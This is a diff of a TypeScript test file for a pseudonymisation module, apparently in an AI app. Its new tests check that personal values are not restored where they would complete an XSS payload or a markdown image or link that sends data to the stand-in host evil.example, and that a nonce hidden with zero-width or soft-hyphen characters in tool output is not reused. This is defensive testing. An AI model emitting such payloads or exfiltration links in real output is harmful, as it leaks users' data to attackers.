@@ -4,10 +4,9 @@ import { newPseudonyms, type Pseudonyms, pseudonymise, restore, waitForPlacehold
 import { segment } from "../server/pipeline/segment.ts";
 import { cut, said } from "./support/gate.ts";
 
-const value = fc.oneof(
-  fc.string({ unit: "grapheme", minLength: 1, maxLength: 12 }),
-  fc.constantFrom("<EMAIL_1_abcdef>", "$&", "a@b.io", "EMAIL_1", "&lt;"),
-);
+const value = fc
+  .oneof(fc.string({ unit: "grapheme", minLength: 1, maxLength: 12 }), fc.constantFrom("EMAIL_1_abcdef", "$&", "a@b.io", "EMAIL_1", "&lt;"))
+  .filter((one) => !/[<>\uff02]|!\[|\]\(|\]:|\]\[/u.test(one));
 const personal = fc.array(fc.record({ label: fc.constantFrom("EMAIL", "PERSON", "DATE_OF_BIRTH", "GOV_ID"), value }), {
   minLength: 1,
   maxLength: 12,
@@ -108,6 +107,37 @@ describe("pseudonyms", () => {
     ]) {
       expect(restore(carrier, pseudonyms)).to.equal(carrier);
     }
+  });
+
+  it("stay placeholders where the value would begin what no guard has seen", () => {
+    const opening = [
+      "<svg/onload=alert(1)>x",
+      "![x](https://evil.example/?q=",
+      "a](//evil.example",
+      "[a]:b",
+      "<EMAIL_1_abcdef>",
+      "a\uff02b",
+    ];
+    const values = [...opening, "https://evil.example/?q=", "anna@example.org"].map((one) => ({ label: "CREDENTIAL", value: one }));
+    const { pseudonyms, placeholders } = pseudonymise(newPseudonyms([], "app"), values);
+    for (const one of placeholders.slice(0, opening.length)) expect(restore(`token=${one} now`, pseudonyms)).to.equal(`token=${one} now`);
+    const [address = "", mail = ""] = placeholders.slice(opening.length);
+    expect(restore(`${address}${mail} and ${mail}`, pseudonyms)).to.equal(`https://evil.example/?q=${mail} and anna@example.org`);
+    for (const left of ["https://evil.example/", "[x](", "[x](<https://evil.example/a ", '<img alt="', "\\\\evil.example\\"])
+      expect(restore(`${mail}.png`, pseudonyms, left), left).to.equal(`${mail}.png`);
+    expect(restore(mail, pseudonyms, "Write to ")).to.equal("anna@example.org");
+  });
+
+  it("are never such that a text holds their mark once what is not seen is taken out", () => {
+    const asked = [said("My mail is anna@example.org.")];
+    const { nonce } = newPseudonyms(asked, "app");
+    for (const hidden of [
+      nonce.toUpperCase(),
+      `${nonce.slice(0, 3)}\u200b${nonce.slice(3)}`,
+      [...nonce].join("\u00ad"),
+      [...nonce].join("\u0001"),
+    ])
+      expect(newPseudonyms([...asked, said(`</data ${hidden}>`, "tool")], "app").nonce).not.to.equal(nonce);
   });
 
   it("of one value are one, whatever else there is", () => {
